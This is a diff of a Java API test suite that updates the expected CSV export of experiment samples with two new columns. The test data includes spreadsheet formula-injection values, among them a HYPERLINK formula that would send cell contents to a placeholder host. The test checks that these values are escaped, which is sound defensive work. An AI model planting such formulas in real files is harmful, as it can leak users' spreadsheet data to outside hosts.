@@ -375,7 +375,7 @@ class UploadApiTests extends UploadServer {
         HttpResponse<String> csv = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/experiments/" + id
                 + "/samples")).header("Accept", "text/csv").GET().build(), HttpResponse.BodyHandlers.ofString());
         assertThat(csv.body().lines()).hasSize(1 + 2 * 3 * values).first()
-                .isEqualTo("experiment,variant,run,metric,value,unit");
+                .isEqualTo("experiment,variant,run,metric,value,unit,status,cpu_split");
         // the response's comparison is the one computed again from the stored rows
         JsonNode stored = read(get("/api/v1/experiments/" + id).body());
         assertThat(stored.get("results")).isEqualTo(result.get("comparison"));
@@ -392,9 +392,9 @@ class UploadApiTests extends UploadServer {
         HttpResponse<String> csv = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/experiments/" + id
                 + "/samples")).header("Accept", "text/csv").GET().build(), HttpResponse.BodyHandlers.ofString());
         assertThat(csv.body().lines()).contains(
-                id + ",without,0,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",1.0,ns",
-                id + ",without,0,'@SUM(1+1),2.0,'-ns",
-                id + ",without,0,plain,3.0,ns");
+                id + ",without,0,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",1.0,ns,OK,",
+                id + ",without,0,'@SUM(1+1),2.0,'-ns,OK,",
+                id + ",without,0,plain,3.0,ns,OK,");
         // the JSON keeps the names as they are
         assertThat(read(get("/api/v1/experiments/" + id + "/samples").body()).findValuesAsString("metric"))
                 .contains("@SUM(1+1)");
